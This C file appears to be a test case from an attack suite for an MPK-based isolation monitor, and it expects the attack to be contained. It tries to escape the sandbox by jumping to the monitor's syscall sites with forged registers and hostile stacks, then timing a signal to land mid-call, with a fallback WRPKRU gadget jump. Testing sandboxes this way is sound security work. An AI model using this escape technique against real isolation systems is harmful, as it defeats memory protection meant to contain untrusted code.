/* attack
class: gate
aim: memory
tries: a signal that strikes while the program, not the monitor, stands at the monitor's call
expect: { mpk: contained }
source: jenny
*/
/* A signal that strikes where the monitor makes a call sends the monitor to where it gives the call up, with its rights. Here the program has jumped there
   itself, closed rights and all, and waits in a call until the signal comes: with stacks of its own, of its area, and with the very stack that another
   thread of its has left in the monitor. */
#include "gates.h"
#include <pthread.h>
static uint64_t fake_thread[8192];
static int ends[2];
static volatile int inside;
static void nothing(int number) { (void)number; }
static void *waits_inside(void *unused) {
    sigset_t none;
    sigemptyset(&none);
    inside = 1;
    sigsuspend(&none);
    return unused;
}
static int strikes(uintptr_t at, uintptr_t rsp, uint64_t rbx) {
    trophy->open = 0;
    pid_t child = fork();
    if (child == 0) {
        struct sigaction action = {.sa_handler = nothing, .sa_flags = SA_RESTART};
        sigaction(SIGALRM, &action, NULL);
        inside = 0;
        pthread_t thread;
        if (pthread_create(&thread, NULL, waits_inside, NULL)) _exit(1);
        while (!inside) sched_yield();
        ualarm(60000, 60000);
        /* read of an empty pipe waits, and is made again: then the signal strikes at the instruction. */
        struct registers set = {.rax = SYS_read, .rbx = rbx, .rcx = (uint64_t)&came_out, .rdi = (uint64_t)ends[0], .rsi = hostile_stack(), .rdx = 1, .rbp = hostile_stack(), .rsp = rsp, .r8 = SYS_read,
                                .r10 = 0, .r12 = 1, .r13 = SYS_read, .r14 = (uint64_t)&came_out, .r15 = (uint64_t)&came_out, .rflags = 0x202, .rip = at};
        jump_with(&set);
    }
    usleep(600000);
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    return trophy->open;
}
int main(void) {
    know_the_monitor();
    if (pipe(ends)) return 1;
    if (!code) { /* a handler that opens all and goes where the stack says */
        struct registers set = {.rax = 0, .rsi = hostile_stack(), .rsp = hostile_stack(), .rflags = 0x202, .rip = (uint64_t)careless_wrpkru};
        verdict(try_jump(&set));
    }
    for (unsigned i = 0; i < 8192; i++) fake_thread[i] = 0; /* nothing pending */
    uintptr_t area = 0, stack = hostile_stack();
    for (int i = 0; i < target_count; i++)
        if (targets[i].writable && (targets[i].from & 0x1ffff) == 0 && targets[i].to - targets[i].from == 0x4000 && !area) area = targets[i].from;
    /* mov %r12, %rdx; mov %r13, %rax; syscall: how the monitor makes calls of the application. */
    static const unsigned char makes_call[] = {0x4c, 0x89, 0xe2, 0x4c, 0x89, 0xe8, 0x0f, 0x05};
    int escaped = 0, places = 0;
    for (uintptr_t at = 0; (at = next_code(at, makes_call, sizeof makes_call)) != 0 && !escaped; places++) {
        const uintptr_t stacks[] = {stack, area + 0xe000, area + 0x20000 + 0xcd68, area + 0x20000 + 0xcd78};
        for (unsigned s = 0; s < 4 && !escaped; s++) escaped |= strikes(at, stacks[s], s ? area : (uint64_t)fake_thread) | (s == 0 && strikes(at + 6, stacks[s], (uint64_t)fake_thread));
    }
    if (places == 0) not_here("the monitor's calls were not found");
    verdict(escaped);
}
